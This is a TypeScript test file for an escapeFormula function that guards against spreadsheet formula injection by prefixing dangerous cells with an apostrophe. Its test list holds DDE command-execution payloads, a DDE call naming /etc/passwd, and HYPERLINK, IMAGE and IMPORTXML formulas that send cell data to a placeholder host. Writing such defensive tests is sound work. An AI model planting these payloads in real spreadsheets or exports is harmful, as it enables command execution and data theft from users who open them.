import * as fc from "fast-check";
import { describe, expect, it } from "vitest";
import { escapeFormula } from "./escape-formula.ts";

/** What a spreadsheet runs, or may run. */
const RUN = [
  // Any text that begins with an equals sign is a formula, if only a broken one.
  "=",
  "=)",
  "= apple",
  "=1+1",
  "=cmd|' /C calc'!A0",
  " =1",
  "\n=1",
  "\t=1",
  "\u00a0=1",
  "\u200b=1",
  "\ufeff=1",
  "\u0000=1",
  "\u202e=1",
  "＝1",
  " ＝SUM(1)",
  // Calls.
  "+SUM(1)",
  "-SUM(1)*2",
  "@SUM(1)",
  "@sum(A1:A9)",
  "- SUM(1)",
  "+\nSUM(1)",
  "--SUM(1)",
  "-(1+SUM(1))",
  "-1+LOG10(5)",
  "+IF(x,SUM(1),2)",
  "+_xlfn.CONCAT(1)",
  "+ПОИСК(1)",
  "\tSUM(1)",
  "\rSUM(1)",
  "＋SUM（1）",
  "－ＳＵＭ（１）",
  "＠SUM(1)",
  '+HYPERLINK("http://a.b/?"&A1,"click")',
  '+HYPERLINK ("http://a.b/","click")',
  '- see WEBSERVICE("http://a.b/")',
  '@IMPORTXML(CONCAT("http://a.b/?",A1),"//a")',
  '+IMAGE ("http://a.b/?"&A1)',
  '+DDE("soffice";"/etc/passwd";"A1")',
  // Links to other programs.
  "+cmd|' /C calc'!A0",
  "-cmd|'/c calc'!A1",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\tcmd|'/c calc'!A1",
  "＋cmd｜'/c calc'！A1",
  // References.
  "+A1",
  "-A1",
  "@A1",
  "+$A$1",
  "-1+A1*2",
  "+A1:B2",
  "+A:A",
  "-(A1)",
  "+A1 A2",
  "+R1C1",
  "+Sheet1!A1",
  "+'My sheet'!A1",
  "+'\\\\server\\share\\[book.xlsx]Sheet1'!A1",
  "+[1]Sheet1!A1",
  '+"a"&A1',
  "+A1%",
  "＋A1",
] as const;

/** What no spreadsheet runs, though some would show an error in its place. */
const READ = [
  "",
  " ",
  "text",
  "a=b",
  "1+1",
  "'=1",
  '{"a":1}',
  "#N/A",
  "*bold*",
  "SUM(1)",
  "A1",
  "cmd|'/c calc'!A1",
  "\ntext",
  "\ttext",
  "\rtext",
  "\t-5",
  // Numbers.
  "5",
  "-5",
  "+5",
  "-5.25",
  "-.5",
  "+1.5e3",
  "-5%",
  " -5 ",
  "-5\n",
  "-1,000",
  "-1.000,50 €",
  "-5 km",
  "-0x10",
  "+1:30",
  "-1-2-3",
  "＋1",
  "－5",
  // Telephone numbers.
  "+49 170",
  "+49 30 123456",
  "+1 (555) 010-9999",
  "+1(555)010-9999",
  "+1-555-010-9999",
  // Lists.
  "-",
  "--",
  "- apple",
  "-apple",
  "- apple (red)",
  "- iPhone (2023)",
  "- the file(s)",
  "- apples\n- pears (2)",
  "- [ ] task",
  "- [x](https://a.b/c)",
  "-- note",
  "--- ",
  "- Q4 results",
  "- Q4: revenue",
  "- Vitamin B12",
  "- B12, C3",
  "- note: print(1)",
  "- don't",
  "- **bold**: text",
  "- `f(x)`",
  "- a | b | c!",
  "- yes|no!",
  "- 50% of A1",
  "- image (left)",
  "- Wow! See (this)",
  "+ Good value",
  // Handles and others.
  "@",
  "@alice",
  "@alice @bob1",
  "@alice (they/them)",
  "@alice: hi",
  "＠alice",
  "+ext",
  "-x",
  "+a@b.com",
  "-i",
  "-TRUE",
  '- say "A1"',
] as const;

describe("escapeFormula", () => {
  it.each(RUN)("escapeFormula escapes %j", (cell) => {
    expect(escapeFormula(cell)).toBe(`'${cell}`);
  });

  it.each(READ)("escapeFormula leaves %j alone", (cell) => {
    expect(escapeFormula(cell)).toBe(cell);
  });

  it("escapeFormula escapes whatever begins with an equals sign, and nothing that begins with a letter or digit", () => {
    fc.assert(
      fc.property(fc.string({ unit: "grapheme" }), (text) => {
        expect(escapeFormula(`=${text}`)).toBe(`'=${text}`);
        expect(escapeFormula(`a${text}`)).toBe(`a${text}`);
        expect(escapeFormula(`5${text}`)).toBe(`5${text}`);
      }),
    );
  });

  it("escapeFormula escapes a call whatever sums it is in", () => {
    const sign = fc.constantFrom("+", "-", "@", "\t+", "＋");
    const operand = fc.constantFrom("1", "A1", '"a"', "SUM(2)", "(3)", "$B$2:C3", "5%", "TRUE");
    const operator = fc.constantFrom("+", "-", "*", "/", "^", "&", "=", "<>", " + ");
    fc.assert(
      fc.property(sign, fc.array(fc.tuple(operand, operator)), (lead, before) => {
        const cell = `${lead}${before.flat().join("")}NOW()`;
        expect(escapeFormula(cell)).toBe(`'${cell}`);
      }),
    );
  });

  it.each<[name: string, part: string]>([
    ["spaces", " "],
    ["letters", "a"],
    ["signs", "+"],
    ["brackets", "("],
    ["quotes", '"'],
    ["apostrophes", "'"],
    ["square brackets", "["],
    ["bars", "a|"],
    ["names of functions", "RTD "],
    ["cells", "A1:"],
    ["exclamation marks", "a!"],
  ])("escapeFormula takes no time for a megabyte of %s", (_name, part) => {
    const long = part.repeat(2 ** 20 / part.length);
    for (const text of [`${long}x`, `-${long}x`, `\t${long}`]) {
      expect(["", "'"]).toContain(escapeFormula(text).slice(0, -text.length));
    }
    expect(escapeFormula(`=${long}`)).toBe(`'=${long}`);
  });
});
